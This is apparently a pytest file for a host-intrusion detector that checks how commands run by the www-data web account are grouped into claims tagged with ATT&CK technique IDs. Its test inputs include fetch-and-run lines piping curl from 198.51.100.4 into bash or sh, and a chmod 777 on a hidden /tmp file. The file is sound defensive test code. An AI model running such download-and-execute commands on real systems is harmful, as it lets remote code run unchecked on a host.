import pytest

from detect.running import claims
from hemostat.detect.checks.audit_service_commands import commands_of_service
from hemostat.model.path import HostPath
from hemostat.model.records import Account, TypedCommand

pytestmark = pytest.mark.requirement("B3", "B5.2")
WEB = Account(name="www-data", uid=33, home=HostPath("/var/www"))


def ran(command: str, via: str = "audit") -> TypedCommand:
    return TypedCommand(account="www-data", command=command, via=via)


def test_what_one_account_ran_is_one_claim_with_its_techniques() -> None:
    commands = ("sh -c 'id'", "sh -c 'curl -s http://198.51.100.4/s|bash'", "chmod 777 /tmp/.x")
    (claim,) = claims(commands_of_service, WEB, *map(ran, commands))
    assert {"T1105", "T1082", "T1222.002"} <= set(claim.attack)
    assert len(claim.because) == 3


def test_a_file_made_to_run_says_nothing_alone() -> None:
    assert claims(commands_of_service, WEB, ran("chmod 777 /tmp/x")) == []


def test_a_history_is_no_audit_log() -> None:
    assert claims(commands_of_service, WEB, ran("curl http://198.51.100.4/s|sh", "history")) == []
